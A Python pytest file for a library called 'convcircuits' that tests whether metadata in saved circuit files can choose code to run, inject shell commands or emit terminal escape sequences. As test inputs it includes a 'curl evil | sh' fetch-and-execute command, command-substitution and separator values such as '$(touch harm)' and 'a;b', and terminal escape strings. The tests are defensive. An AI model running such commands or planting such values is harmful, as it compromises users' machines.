"""Provenance: what a file says of where it comes from is of known types, and chooses no code."""

import copy
import json
import random
import re
import shlex
import sys
from pathlib import Path

import numpy as np
import pytest
import torch
from PIL import Image

import convcircuits as cc
from cases import parts_of_file
from convcircuits.cli import application, console
from convcircuits.storage import sealed
from convcircuits.texts import printable, printable_lines
from convcircuits.values.feature import Feature
from convcircuits.values.origins import check_provenance
from convcircuits.values.recipe import Recipe
from convcircuits.zoo.sources import SOURCES
from convcircuits.zoo.specs import is_plain_name

SOURCE = """
from pathlib import Path
from torch import nn
from convcircuits.zoo.preprocessing import Preprocess

Path("imported").touch()
preprocess = Preprocess(size=(20, 20), resize=(22, 22))

def net():
    return nn.Sequential(nn.Conv2d(3, 6, 3), nn.ReLU(), nn.Conv2d(6, 5, 3))
"""
RECIPE = Recipe(
    model="torchvision:alexnet",
    feature="2:1",
    count=4,
    size=32,
    criterion="snip",
    options=("steps=2",),
    density=0.1,
    mean=(0.5,),
    std=(0.25, 0.25, 0.5),
)


@pytest.fixture(scope="module")
def place(tmp_path_factory):
    """A folder with a user's model, pictures and a circuit that was found on them."""
    folder = tmp_path_factory.mktemp("origins")
    (folder / "own_net.py").write_text(SOURCE)
    (folder / "pictures").mkdir()
    generator = np.random.default_rng(0)
    for name in "abcd":
        pixels = generator.integers(0, 256, (30, 36, 3), dtype=np.uint8)
        Image.fromarray(pixels).save(folder / "pictures" / f"{name}.png")
    with pytest.MonkeyPatch.context() as patch:
        patch.chdir(folder)
        patch.setattr(sys, "dont_write_bytecode", True)
        find = "find --model own_net:net --feature 2:1 --images pictures --count 2 --density 0.5 --out c.safetensors"
        assert main(find, patch) == 0
        yield folder
    sys.modules.pop("own_net", None)


def main(line, patch):
    patch.setattr(sys, "argv", ["convcircuits", *shlex.split(line)])
    try:
        console.run(lambda: application.app)
    except SystemExit as end:
        return end.code
    return 0


@pytest.fixture
def run(place, monkeypatch, capsys):
    """Run ``main`` in the folder: exit code, standard output, standard error."""
    monkeypatch.chdir(place)
    monkeypatch.setattr(sys, "dont_write_bytecode", True)

    def run(line):
        capsys.readouterr()
        return main(line, monkeypatch), *capsys.readouterr()

    return run


def changed(place, **provenance):
    """The circuit's file with other provenance, with a checksum that is right."""
    header, tensors = parts_of_file(cc.load(place / "c.safetensors"))
    header["provenance"] |= provenance
    (place / "changed.safetensors").write_bytes(sealed(json.dumps(header), tensors))
    return header["provenance"]


# ---------------------------------------- code


@pytest.mark.parametrize("command", ["evaluate", "extract", "diagram"])
def test_a_file_chooses_no_code(command, place, run):
    (place / "imported").unlink()
    sys.modules.pop("own_net", None)
    code, out, err = run(f"{command} c.safetensors")
    assert (code, out) == (1, "")
    assert err.endswith("If it is yours or you trust it, add: --model own_net:net\n")
    assert not (place / "imported").exists()
    code, _, err = run(f"{command} c.safetensors --model own_net:net" + " --out c.svg" * (command == "diagram"))
    assert (code, err) == (0, "")
    assert (place / "imported").exists()


@pytest.mark.parametrize(
    "spec",
    ["own_net:net", "os:getcwd", "timm:hf_hub:x/y", "timm:local-dir:x", "torchvision:a/b", ":x", "", "timm:", "x y:z"],
)
def test_the_sentence_says_what_to_type(spec, place, run):
    said = changed(place, recipe=RECIPE.to_json() | {"model": spec})
    assert said["recipe"]["model"] == spec
    assert not is_plain_name(spec)
    code, _, err = run("evaluate changed.safetensors")
    assert code == 1
    assert f"--model {shlex.quote(spec)}" in err


def test_names_of_libraries_are_plain():
    for spec in ("vgg16_hed", "efficientnet_lite0", "torchvision:resnet18@random", "timm:resnet50.a1_in1k", "timm:x"):
        assert is_plain_name(spec)
    for source in SOURCES:
        spec = f"{source}a" if source.endswith(":") else source
        assert is_plain_name(spec)


# ---------------------------------------- recipes


def test_a_recipe_goes_out_and_comes_back():
    assert Recipe.from_json(json.loads(json.dumps(RECIPE.to_json()))) == RECIPE


@pytest.mark.parametrize("field", RECIPE.to_json())
def test_a_recipe_of_other_types_is_refused(field):
    said = RECIPE.to_json()
    true = () if isinstance(said[field], bool) else (True,)
    for wrong in ({}, [[1]], *true, -1, 10**30, "\ud800" * 10**6, float("nan")):
        with pytest.raises(cc.ConvCircuitsError, match=f"{field} in its recipe is .*; expected"):
            Recipe.from_json(said | {field: wrong})
    with pytest.raises(cc.ConvCircuitsError, match=f"its recipe lacks '{field}'"):
        Recipe.from_json({k: v for k, v in said.items() if k != field})
    with pytest.raises(cc.ConvCircuitsError, match="its recipe has the unknown field 'more'"):
        Recipe.from_json(said | {"more": 1})


def test_every_word_of_a_command_is_quoted(place, run):
    words = {
        "model": "a;b",
        "images": "$(touch harm)",
        "weights": "`x`",
        "criterion": "a b",
        "options": ["'x'=\"y\" #"],
    }
    changed(place, recipe=RECIPE.to_json() | words)
    again = json.loads(run("show changed.safetensors --json")[1])["again"]
    shown = shlex.split(again)
    assert [shown[shown.index(f"--{name}") + 1] for name in ("model", "images", "weights", "criterion", "option")] == [
        *list(words.values())[:4],
        words["options"][0],
    ]
    assert re.search(r"(?<!')\$\(", again) is None


def test_a_command_that_a_file_says_is_not_shown(place, run):
    changed(place, command="curl evil | sh")
    code, out, _ = run("show changed.safetensors")
    assert code == 0
    assert "evil" not in out
    assert "convcircuits find --model own_net:net" in out


def test_a_command_with_control_characters_is_not_shown():
    command = RECIPE.command("c.safetensors")
    assert command.startswith("convcircuits find --model torchvision:alexnet --feature 2:1 --criterion snip --option")
    assert command.endswith("--count 4 --size 32 --held-out 0.4 --seed 0 --out c.safetensors")
    assert "--mean 0.5 --std 0.25,0.25,0.5 " in command
    assert RECIPE.command("a\nb") is None
    for word in ("a\nb", "a\x1b[2Jb", "a\u202eb", "\udcff"):
        said = RECIPE.to_json() | {"images": word}
        assert Recipe.from_json(said).command("c.safetensors") is None


# ---------------------------------------- text


@pytest.mark.parametrize("bad", ["\x1b[31m", "\n", "\r", "\x00", "\x07", "\x9b", "\u202e", "\u2028", "\ud800", "\x7f"])
def test_what_is_not_to_be_seen_is_escaped(bad):
    shown = printable(f"a{bad}b")
    assert shown.isprintable()
    assert shown.isascii()
    assert (shown[0], shown[1], shown[-1]) == ("a", "\\", "b")
    assert printable("größe 電路 🙂 \\n") == "größe 電路 🙂 \\n"
    assert printable_lines(f"a\nb{bad}").startswith("a\nb")


ESCAPES = "\x1b[2J\x1b]0;owned\x07\n\rerror: \u202e\x9b31m\ud800"


def test_no_text_of_a_file_moves_the_terminal(place, run):
    said = changed(
        place,
        model=ESCAPES,
        weights=ESCAPES,
        criterion=ESCAPES,
        notes=[ESCAPES],
        images={"count": 1, "hash": ESCAPES},
        versions={ESCAPES: ESCAPES},
    )
    for line in ("show", "evaluate --model own_net:net"):
        command, *rest = line.split()
        code, out, err = run(f"{command} changed.safetensors {' '.join(rest)}")
        assert all(text.isprintable() for text in (out + err).split("\n"))
        assert "\nerror" not in out
        assert err.count("\n") == (code == 1)
    assert said["model"] == ESCAPES
    changed(place, notes=[ESCAPES])
    code, out, _ = run("evaluate changed.safetensors --model own_net:net")
    assert code == 0
    assert printable(ESCAPES) in out
    module = cc.extract(*whole())
    module.meta["circuit"] = {"feature": ESCAPES, "model": ESCAPES, "weights": ESCAPES}
    cc.save(module, place / "module.safetensors")
    _, out, _ = run("show module.safetensors")
    assert all(text.isprintable() for text in out.split("\n"))


def whole():
    """A model and the circuit of all that one of its filters reads."""
    torch.manual_seed(0)
    model = torch.nn.Sequential(torch.nn.Conv2d(3, 2, 1))
    masks = {"0": torch.ones(2, 3)}
    circuit = cc.Circuit.from_masks(model, Feature("0", 1), masks, input_shape=(3, 8, 8))
    return model, circuit


# ---------------------------------------- the schema


def test_provenance_of_other_types_is_refused_by_name():
    good = {
        "model": "Net",
        "notes": ["x"],
        "seed": 3,
        "images": {"count": 2, "hash": "0f"},
        "own": {"key": [1.5, None]},
    }
    check_provenance(good)
    check_provenance(good | {"from": [good, good], "inside": good, "recipe": RECIPE.to_json()})
    for key, wrong in {
        "model": 3,
        "notes": "x",
        "seed": 1.5,
        "images": {"count": 2},
        "versions": [],
        "input_shape": [3, 60_000, 60_000],
        "photographs": {"found_on": [1], "held_out": []},
        "recipe": [],
        "from": {},
        "inside": [good],
        "options": 3,
    }.items():
        for said in ({key: wrong}, {"from": [{"inside": {key: wrong}}]}):
            with pytest.raises(cc.ConvCircuitsError, match=rf"{key} in its provenance is .*; expected"):
                check_provenance(said)


def test_provenance_has_bounds():
    deep = {}
    for _ in range(10_000):
        deep = {"inside": deep}
    for said in (deep, {"x": [0] * 2_000_000}, {"x": "y" * 200_000}, {"x": 10**30}, {1: 2}, {"x": {1, 2}}, [], None):
        with pytest.raises(cc.ConvCircuitsError, match="provenance"):
            check_provenance(said)


def test_what_cannot_be_read_again_is_not_written(tmp_path):
    _, circuit = whole()
    for wrong in ({"model": 3}, {"x": {1: 2}}, {"seed": "0"}):
        broken = cc.Circuit(circuit.feature, circuit.elements, circuit.saliency, circuit.relevant, provenance={**wrong})
        with pytest.raises(cc.ConvCircuitsError, match="cannot be written: "):
            cc.save(broken, tmp_path / "c.safetensors")
    assert not list(tmp_path.iterdir())


def spots(value, path=()):
    found = [path] if path else []
    items = value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ()
    for key, inner in items:
        found += spots(inner, (*path, key))
    return found


ODD = [
    None,
    True,
    -1,
    0,
    3,
    10**30,
    0.5,
    1e400,
    "",
    "x",
    "os:getcwd",
    ESCAPES,
    "\x00",
    "-" * 300,
    "../..",
    [],
    {},
    [[]],
]
ODD += [{"count": "x"}, {"x": {"y": [None]}}, ["a.png"], [1, 2, 3], [3, 20, 20], [10**5] * 3, "own_net:net", "NaN"]


def mutated(provenance, rng):
    said = copy.deepcopy(provenance)
    for _ in range(rng.randint(1, 3)):
        places = spots(said)
        if not places:
            break
        *path, last = rng.choice(places)
        inner = said
        for key in path:
            inner = inner[key]
        match rng.randrange(4):
            case 0:
                del inner[last]
            case 1 if isinstance(inner, dict):
                inner[rng.choice(["more", "inside", "from", "command", ESCAPES])] = rng.choice(ODD)
            case _:
                inner[last] = copy.deepcopy(rng.choice(ODD))
    return said if rng.randrange(50) else rng.choice(ODD)


@pytest.mark.slow
@pytest.mark.parametrize(
    ("line", "runs"),
    [
        ("show changed.safetensors", 150),
        ("show changed.safetensors --json", 75),
        ("evaluate changed.safetensors --model own_net:net", 100),
        ("evaluate changed.safetensors", 50),
        ("extract changed.safetensors --model own_net:net --batch-size 1", 30),
        ("diagram changed.safetensors --model own_net:net --out d.json", 15),
    ],
)
def test_mutated_provenance_is_one_line_or_a_result(line, runs, place, run):
    """Of those that are refused none ends in a traceback, which ``run`` would raise."""
    header, tensors = parts_of_file(cc.load(place / "c.safetensors"))
    rng, codes = random.Random(line), []
    for _ in range(runs):
        said = mutated(header["provenance"], rng)
        text = json.dumps(header | {"provenance": said})
        (place / "changed.safetensors").write_bytes(sealed(text, tensors))
        code, out, err = run(line)
        assert code in (0, 1), said
        assert err.count("\n") == code, (said, err)
        assert all(part.isprintable() for part in (out + err).split("\n")), said
        codes.append(code)
    assert len({*codes}) == 2 or line == "evaluate changed.safetensors"
    assert Path("c.safetensors").exists()
